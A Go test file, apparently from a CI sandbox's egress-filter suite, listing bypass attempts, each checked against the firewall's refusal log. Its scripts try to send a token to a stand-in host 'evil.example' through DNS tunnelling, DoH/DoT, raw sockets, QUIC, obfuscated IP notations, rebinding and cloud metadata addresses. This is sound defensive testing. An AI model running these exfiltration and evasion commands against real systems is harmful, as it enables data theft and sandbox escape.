package bypass

import (
	"strings"

	"github.com/mayfly-ci/mayfly/sandbox/egress"
)

// An attack is a script of the shell, with a word of its own as $1 that it tries
// to bring to the canary.
type attack struct {
	what   string
	script string
	// arrives stands before the word where the attack has succeeded; the word
	// alone may come there in ways that are allowed.
	arrives string
	line    func(egress.Line) bool // of the ledger
	// kernel is what the script prints where the kernel says no before there is
	// a packet to write down. Then line is nil.
	kernel string
	// honest is the nearest thing that the rules allow.
	honest string
}

// packet is what the wall refused.
func packet(network, address string, port uint16) func(egress.Line) bool {
	return func(l egress.Line) bool {
		return l.Verdict == egress.Refused && l.Network == network && l.Address == address && l.Port == port
	}
}

// question is a name that the resolver did not answer.
func question(part string) func(egress.Line) bool {
	return func(l egress.Line) bool {
		return l.Verdict == egress.Refused && l.Network == "dns" && strings.Contains(l.Name, part)
	}
}

// because is what the gateway refused for a reason.
func because(reason string) func(egress.Line) bool {
	return func(l egress.Line) bool { return l.Verdict == egress.Refused && strings.Contains(l.Reason, reason) }
}

// Parts of scripts.
const (
	curl   = "curl -sk -m 20 "
	python = "/usr/bin/python3 -c "
	// dnsPacket makes the question q for the name n, of type k.
	dnsPacket = `
import socket, struct, sys
T = sys.argv[1]
def ask(n, k=1): return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0" + struct.pack(">2H", k, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
`
	socketOf = `
import socket, sys, struct
T = sys.argv[1].encode()
def tcp(*to):
    s = socket.create_connection(to, 20); s.sendall(T + b"\n"); s.shutdown(1)
`
)

func py(prelude, script string) string { return python + "'" + prelude + script + `' "$1"` }

func evilTCP(port uint16) func(egress.Line) bool { return packet("tcp", evilAddress, port) }

func evilUDP(port uint16) func(egress.Line) bool { return packet("udp", evilAddress, port) }

// nameRows are those of names, and of connections to none.
func nameRows() map[string][]attack {
	return map[string][]attack{
		"B1": {
			{what: "no proxy", script: "unset http_proxy https_proxy; " + curl + "--noproxy '*' http://evil.example/$1", line: question("evil.example"), honest: curl + "http://good.example/$1"},
			{what: "direct TCP", script: py(socketOf, `tcp("`+evilAddress+`", 80)`), line: evilTCP(80)},
		},
		"B2": {
			{what: "another port of an allowed name", script: curl + "http://good.example:8080/$1", line: because("no rule for port 8080"), honest: curl + "https://good.example:8443/$1"},
			{what: "another port of an address", script: py(socketOf, `tcp("`+evilAddress+`", 8080)`), line: evilTCP(8080)},
		},
		"B3": {
			{what: "TLS to an address", script: curl + "https://" + evilAddress + "/$1", line: evilTCP(443)},
			{what: "TLS to an allowed host's address", script: curl + "https://" + goodAddress + "/$1", line: packet("tcp", goodAddress, 443)},
			{what: "TLS without a server name", script: `curl -sk -m 20 "https://$(getent ahostsv4 good.example | head -1 | cut -d" " -f1)/$1"`, line: because("no server name"), honest: curl + "https://good.example/$1"},
		},
		"B4": {
			{what: "a name that carries data", script: "getent hosts $1.evil.example", line: question("evil.example")},
			{what: "a TXT question", script: py(dnsPacket, `s.sendto(ask(T + ".evil.example", 16), ("192.0.2.53", 53)); s.recv(512)`), line: question("evil.example")},
			{what: "a name below an allowed one", script: "getent hosts $1.good.example", line: question(".good.example")},
			{what: "another resolver", script: py(dnsPacket, `s.sendto(ask(T + ".evil.example"), ("`+evilAddress+`", 53)); s.recv(512)`), line: question("evil.example")},
		},
		"B5": {
			{what: "DNS over TCP, at the resolver", script: py(socketOf, `tcp("192.0.2.53", 53)`), line: packet("tcp", "192.0.2.53", 53)},
			{what: "DNS over TCP, elsewhere", script: py(socketOf, `tcp("`+evilAddress+`", 53)`), line: evilTCP(53)},
			{what: "two questions in one message", script: py(dnsPacket, `
a, b = ask("good.example"), ask(T + ".evil.example")
s.sendto(a[:5] + b"\2" + a[6:] + b[12:], ("192.0.2.53", 53))`), line: because("not one DNS question")},
			{what: "a question behind an answer's bit", script: py(dnsPacket, `
a = ask(T + ".evil.example"); s.sendto(a[:2] + b"\x81" + a[3:], ("192.0.2.53", 53))`), line: because("not a DNS question")},
		},
		"B6": {
			{what: "DoH at an allowed host", script: curl + "-H 'Accept: application/dns-message' https://good.example/$1", line: because("DNS over HTTPS"), honest: curl + "https://good.example/$1"},
			{what: "DoH, sent", script: curl + "-H 'Content-Type: application/dns-message' -d x https://good.example/$1", line: because("DNS over HTTPS")},
			{what: "DoH at its path", script: curl + "https://good.example/$1/dns-query", line: because("DNS over HTTPS")},
			{what: "DoT", script: curl + "https://" + evilAddress + ":853/$1", line: evilTCP(853)},
			{what: "DoT at an allowed host", script: curl + "https://good.example:853/$1", line: because("no rule for port 853")},
			{what: "DoQ", script: py(socketOf, `socket.socket(2, 2).sendto(T, ("`+evilAddress+`", 853))`), line: evilUDP(853)},
		},
		"B18": {
			{what: "an allowed name that is rebound", script: "for i in 1 2 3; do " + curl + "http://rebind.example/$1; done", line: because("address")},
		},
		"B19": metadata(),
	}
}

// packetRows are those of other protocols and other addresses.
func packetRows() map[string][]attack {
	return map[string][]attack{
		"B7": {
			{what: "sendto", script: py(socketOf, `socket.socket(2, 2).sendto(T, ("`+evilAddress+`", 443))`), line: evilUDP(443)},
			{what: "sendmsg", script: py(socketOf, `socket.socket(2, 2).sendmsg([T], [], 0, ("`+evilAddress+`", 443))`), line: evilUDP(443)},
			{what: "connect and send", script: py(socketOf, `s = socket.socket(2, 2); s.connect(("`+evilAddress+`", 443)); s.send(T)`), line: evilUDP(443)},
			{what: "sendmmsg", script: py(socketOf, `
import ctypes
c = ctypes.CDLL(None, use_errno=True)
class iov(ctypes.Structure): _fields_ = [("b", ctypes.c_char_p), ("n", ctypes.c_size_t)]
class msg(ctypes.Structure): _fields_ = [("name", ctypes.c_char_p), ("len", ctypes.c_uint), ("iov", ctypes.POINTER(iov)), ("n", ctypes.c_size_t), ("c", ctypes.c_void_p), ("cn", ctypes.c_size_t), ("f", ctypes.c_int), ("sent", ctypes.c_uint)]
to = struct.pack("=H", 2) + struct.pack(">H", 443) + socket.inet_aton("`+evilAddress+`") + bytes(8)
v = iov(T, len(T))
s = socket.socket(2, 2)
print(c.sendmmsg(s.fileno(), ctypes.byref(msg(to, 16, ctypes.pointer(v), 1, None, 0, 0, 0)), 1, 0))
`), line: evilUDP(443)},
			{what: "QUIC", script: py(socketOf, `
# the head of an Initial packet of version 1 (RFC 9000, 17.2.2), padded as one is
socket.socket(2, 2).sendto(b"\xc0\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\x96" + T.ljust(1174, b"\0"), ("`+evilAddress+`", 443))`), line: evilUDP(443)},
			{what: "UDP to an allowed name", script: py(socketOf, `socket.socket(2, 2).sendto(T, (socket.gethostbyname("good.example"), 443))
socket.socket(2, 2).sendto(T, ("`+evilAddress+`", 443))`), line: func(l egress.Line) bool {
				return l.Network == "udp" && l.Verdict == egress.Refused && strings.HasPrefix(l.Address, "198.18.") && l.Port == 443
			}},
		},
		"B8": {
			{what: "ICMP by a raw socket", script: py(socketOf, `socket.socket(2, 3, 1).sendto(b"\x08\0\0\0\0\0\0\0" + T, ("`+evilAddress+`", 0))`), kernel: "PermissionError"},
			{what: "a protocol of its own", script: py(socketOf, `socket.socket(2, 3, 253).sendto(T, ("`+evilAddress+`", 0))`), kernel: "PermissionError"},
			{what: "SCTP by a raw socket", script: py(socketOf, `socket.socket(2, 3, 132).sendto(T, ("`+evilAddress+`", 0))`), kernel: "PermissionError"},
			{what: "MPTCP", script: py(socketOf, `s = socket.socket(2, 1, 262); s.settimeout(20); s.connect(("`+evilAddress+`", 80)); s.sendall(T)`), line: evilTCP(80)},
			{what: "TCP Fast Open", script: py(socketOf, `s = socket.socket(2, 1); s.sendto(T, 0x20000000, ("`+evilAddress+`", 80))`), line: evilTCP(80)},
			{what: "ping", script: py(socketOf, `
s = socket.socket(2, 2, 1); p = b"\x08\0\0\0\0\0\0\1" + T; s.sendto(p, ("`+evilAddress+`", 0))`), kernel: "PermissionError"},
		},
		"B9": {
			{what: "IPv6", script: py(socketOf, `tcp("`+evilAddress6+`", 80)`), line: packet("tcp", evilAddress6, 80)},
			{what: "IPv6, UDP", script: py(socketOf, `socket.socket(10, 2).sendto(T, ("`+evilAddress6+`", 53))`), line: packet("udp", evilAddress6, 53)},
			{what: "IPv4 as IPv6", script: py(socketOf, `tcp("::ffff:`+evilAddress+`", 80)`), line: evilTCP(80)},
			{what: "decimal", script: curl + "http://1572395074/$1", line: evilTCP(80)},
			{what: "octal", script: py(socketOf, `tcp("0135.0270.0330.0102", 80)`), line: evilTCP(80)},
			{what: "hexadecimal", script: py(socketOf, `tcp("0x5db8d842", 80)`), line: evilTCP(80)},
			{what: "three parts", script: py(socketOf, `tcp("93.184.55362", 80)`), line: evilTCP(80)},
		},
		"B25": {
			{what: "a mark of packets", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(1, 36, 1); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
			{what: "a source address of another's", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(0, 19, 1); s.bind(("10.9.9.9", 0)); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
		},
	}
}

// metadata is the address of a cloud in every notation.
func metadata() []attack {
	at := packet("tcp", "169.254.169.254", 80)
	all := []attack{
		{what: "its name", script: curl + "http://metadata.google.internal/$1", line: question("metadata.google.internal")},
		{what: "an allowed name that leads there", script: curl + "http://meta.example/$1", line: func(l egress.Line) bool {
			return l.Name == "meta.example" && l.Verdict == egress.Refused && strings.Contains(l.Reason, "metadata")
		}},
	}
	for _, host := range []string{
		"169.254.169.254", "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "0251.254.0xa9.254", "169.254.43518", "169.16689662",
		"[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
	} {
		all = append(all, attack{what: "curl, " + host, script: curl + "'http://" + host + "/'$1", line: at})
		if !strings.HasPrefix(host, "[") {
			all = append(all, attack{what: "sockets, " + host, script: py(socketOf, `tcp("`+host+`", 80)`), line: at})
		}
	}
	for _, other := range []string{"169.254.170.2", "168.63.129.16", "100.100.100.200", "fd00:ec2::254"} {
		all = append(all, attack{what: other, script: py(socketOf, `tcp("`+other+`", 80)`), line: packet("tcp", other, 80)})
	}
	return all
}
